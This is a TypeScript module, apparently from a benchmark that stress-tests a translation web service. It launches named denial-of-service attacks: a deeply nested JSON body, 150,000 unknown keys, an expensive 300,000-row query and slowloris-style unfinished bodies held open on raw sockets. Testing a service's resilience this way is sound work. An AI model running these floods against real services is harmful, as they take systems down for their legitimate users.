import {request as httpRequest, Agent} from 'node:http';
import {connect, type Socket} from 'node:net';

/** Where an attack is sent, and with which token. */
export interface Target {
  readonly url: string;
  readonly token: string;
  readonly systemID: string;
}

/** Number of the greedy user's translations. */
export const ROWS = 300_000;
/** Number of unfinished bodies per connection of the attack. */
const UNFINISHED = 150;
const CONNECTIONS = 2;
const MEGABYTE = 1024 * 1024;
/** Number of answers that the attacker has received. */
let answers = 0;

type Attack = (target: Target) => void;

const json = '/service.svc/json';
const KEYS = Array.from({length: 150_000}, (_, index) => `"k${index}":1`).join(',');
const known = ({systemID}: Target) => ({appID: 'bench', systemID, options: ''});

/** Attacks by a greedy user over two connections at once, by their names in the table. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'a body nested a million deep': (target) =>
    post(target, `${json}/Translate`, '['.repeat(2 * MEGABYTE - 10)),
  '150,000 unknown keys': (target) => post(target, `${json}/Translate`, `{${KEYS}}`),
  '5,000 empty texts': (target) => {
    const body = {...known(target), textArray: Array<string>(5_000).fill('')};
    post(target, `${json}/TranslateArray`, JSON.stringify(body));
  },
  [`GetTranslations over ${ROWS.toLocaleString('en')} rows`]: (target) =>
    post(target, `/legacy${json}/GetTranslations`, JSON.stringify(known(target))),
  [`${2 * UNFINISHED} unfinished bodies`]: unfinished,
};

/** Sends one request after the other over each connection, until the process is killed. */
function post({url, token}: Target, path: string, text: string): void {
  const body = Buffer.from(text);
  const agent = new Agent({keepAlive: true, maxSockets: CONNECTIONS});
  const headers = {'client-id': token, 'content-type': 'application/json', 'content-length': body.length};
  const again = (): void => {
    let isOver = false;
    const next = (): void => {
      if (!isOver) setImmediate(again);
      isOver = true;
    };
    const sent = httpRequest(`${url}${path}`, {method: 'POST', agent, headers}, (answer) => {
      answers += 1;
      answer.resume().once('close', next);
    });
    sent.once('error', next).end(body);
  };
  for (let count = 0; count < CONNECTIONS; count += 1) again();
}

/** Sends bodies of 2 MB without their last byte, and keeps the connections open. */
function unfinished({url, token}: Target): void {
  const {hostname, port} = new URL(url);
  const head = `POST ${json}/Translate HTTP/1.1\r\nHost: x\r\nclient-id: ${token}\r\nContent-Length: ${2 * MEGABYTE}\r\n\r\n`;
  const body = Buffer.alloc(2 * MEGABYTE - 1, ' ');
  const sockets: Socket[] = [];
  for (let count = 0; count < CONNECTIONS * UNFINISHED; count += 1) {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => undefined);
    socket.write(head);
    socket.write(body);
    sockets.push(socket);
  }
}

// As a separate process, it attacks until it is killed, and answers each further message with the number of
// answers so far.
if (process.send) {
  process.once('message', ({name, target}: {name: string; target: Target}) => {
    ATTACKS[name]?.(target);
    process.on('message', () => process.send?.(answers));
  });
}
